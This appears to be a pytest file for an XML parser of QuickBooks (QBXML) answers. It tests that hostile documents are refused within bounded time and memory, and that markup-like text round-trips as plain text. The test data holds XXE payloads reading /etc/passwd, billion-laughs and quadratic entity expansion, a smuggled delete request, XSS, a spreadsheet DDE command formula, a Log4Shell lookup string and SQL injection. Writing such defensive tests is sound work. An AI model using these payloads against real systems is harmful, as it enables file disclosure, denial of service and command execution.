"""Hostile documents are refused within bounded memory and time; hostile texts are texts."""

import time
import tracemalloc
from dataclasses import replace
from decimal import Decimal
from typing import Any

import pytest

from counterfoil.qbxml import write
from counterfoil.qbxml.read import Malformed, read_answer
from counterfoil.records import Bill, ExpenseLine, Kind, Ref, Vendor
from tests.qbxml.answers import as_returned, bill, bills, document, response

MOST_SECONDS = 5.0
"""CPU time that any refusal may take, generously for a slow machine; each takes well under one here."""
MOST_BYTES = 120_000_000


def declared(subset: str, memo: str = "&x;") -> str:
    return bills(f"<Memo>{memo}</Memo>").replace("<QBXML>", f"<!DOCTYPE QBXML [{subset}]><QBXML>", 1)


LAUGHS = '<!ENTITY x0 "ha">' + "".join(f'<!ENTITY x{n} "{f"&x{n - 1};" * 10}">' for n in range(1, 12))

HOSTILE = {
    "external file": lambda: declared('<!ENTITY x SYSTEM "file:///etc/passwd">'),
    "external file by parameter": lambda: declared('<!ENTITY % x SYSTEM "file:///etc/passwd"> %x;', "m"),
    "network": lambda: declared('<!ENTITY x SYSTEM "http://192.0.2.1/x">'),
    "internal entity": lambda: declared('<!ENTITY x "12.00">'),
    "a thousand million laughs": lambda: declared(LAUGHS, "&x11;"),
    "quadratic": lambda: declared(f'<!ENTITY x "{"a" * 50_000}">', "&x;" * 50_000),
    "external DTD": lambda: bills("").replace("<QBXML>", '<!DOCTYPE QBXML SYSTEM "http://192.0.2.1/x.dtd"><QBXML>'),
    "empty doctype": lambda: bills("").replace("<QBXML>", "<!DOCTYPE QBXML><QBXML>"),
    "doctype in small letters": lambda: bills("").replace("<QBXML>", "<!doctype QBXML><QBXML>"),
    "doctype behind a comment": lambda: bills("").replace("<QBXML>", "<!-- --><!DOCTYPE QBXML><QBXML>"),
    "a text of 20 MB": lambda: bills(f"<Memo>{'a' * 20_000_000}</Memo>"),
    "too large": lambda: bills(*[f"<Memo>{'a' * 4000}</Memo>"] * 2100),
    "deep frame": lambda: document("<a>" * 100_000 + "</a>" * 100_000),
    "wide frame": lambda: document("<a/>" * 1_500_000),
    "wide and empty": lambda: document(response("BillQueryRs", "<a></a>" * 900_000)),
    "attributes": lambda: document("<a " + " ".join(f'b{n}=""' for n in range(500_000)) + "/>"),
    "one long attribute": lambda: document(f'<a b="{"x" * 5_000_000}"/>'),
    "unended record": lambda: document(response("BillQueryRs", "<BillRet>" * 300_000)),
    "a record outside any response": lambda: document(bill("<Memo>m</Memo>")),
    "a record outside the answer": lambda: bills("").replace("</QBXML>", bill("<Memo>m</Memo>") + "</QBXML>"),
    "a forged place": lambda: document(response("BillQueryRs", bill("<Memo>m</Memo>") + "<records/>")),
    "not UTF-8": lambda: bills("<Memo>caf</Memo>").encode().replace(b"caf", b"caf\xe9"),
    "unknown encoding": lambda: b'<?xml version="1.0" encoding="x-none"?>' + bills("").encode(),
    "half of a character": lambda: bills("<Memo>\ud800</Memo>"),
}


@pytest.mark.parametrize("make", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_document_is_refused_within_bounded_memory_and_time(make):
    text = make()
    tracemalloc.start()
    start = time.process_time()
    with pytest.raises(Malformed):
        read_answer(text)
    seconds = time.process_time() - start
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert seconds < MOST_SECONDS
    assert peak < MOST_BYTES


INSIDE = {
    "deep": "<a>" * 20_000 + "</a>" * 20_000,
    "wide": "<a/>" * 500_000,
    "attributes": "<a " + " ".join(f'b{n}=""' for n in range(20_000)) + "/>",
    "unknown entity": "<Memo>&x;</Memo>",
}


@pytest.mark.parametrize("content", INSIDE.values(), ids=INSIDE)
def test_a_hostile_record_is_set_aside_and_its_neighbours_arrive(content):
    found: Any = read_answer(bills("<Memo>one</Memo>", content, "<Memo>three</Memo>")).responses[0]
    assert [each.record.memo for each in found.observations] == ["one", "three"]
    assert [each.id for each in found.unreadable] == ["2-1"]


INJECTIONS = [
    "</Name><BillAddRq>",
    "</Memo></BillAdd></BillAddRq><TxnDelRq><TxnDelType>Bill</TxnDelType>",
    "<![CDATA[x]]>",
    "]]>",
    "<!-- -->",
    "&amp;lt;",
    "&#60;BillRet&#62;",
    "&x;",
    '<!DOCTYPE a [<!ENTITY x "y">]>',
    "<?xml version='1.0'?>",
    "\"'><script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "${jndi:ldap://x}",
    "{{7*7}} %s %n",
    "' OR 1=1 --",
    "</BillRet><BillRet>",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_what_looks_like_markup_comes_back_as_text(text):
    line = ExpenseLine("1-2", Ref("8-1"), Decimal("1.00"), memo=text)
    entered = Bill(vendor=Ref("9-1"), memo=text, expense_lines=(line,))
    answer = as_returned(write.add(Kind.BILL, entered).xml, "1-1", ["1-2"])
    assert read_answer(answer).responses[0].observations[0].record == entered


@pytest.mark.parametrize("text", [text for text in INJECTIONS if ":" not in text and len(text) <= 41])
def test_a_vendor_may_be_called_anything(text):
    request = write.add(Kind.VENDOR, Vendor(text))
    returned: Any = read_answer(as_returned(request.xml, "8-1", [])).responses[0].observations[0].record
    assert returned.name == text
    changed = write.mod(Kind.VENDOR, "8-1", "5", before=Vendor("Plain"), after=replace(Vendor("Plain"), name=text))
    assert changed is not None
    assert "TxnDelRq" not in changed.xml


def test_a_request_is_ascii_whatever_it_says():
    bill = Bill(
        vendor=Ref("9-1"),
        memo="caf\u00e9 \u00a35 \u2013 \u201cok\u201d \u20ac",
        expense_lines=(ExpenseLine(amount=Decimal(1)),),
    )
    text = write.document([write.add(Kind.BILL, bill)])
    assert text.isascii()
    assert "caf&#233; &#163;5 &#8211; &#8220;ok&#8221; &#8364;" in text
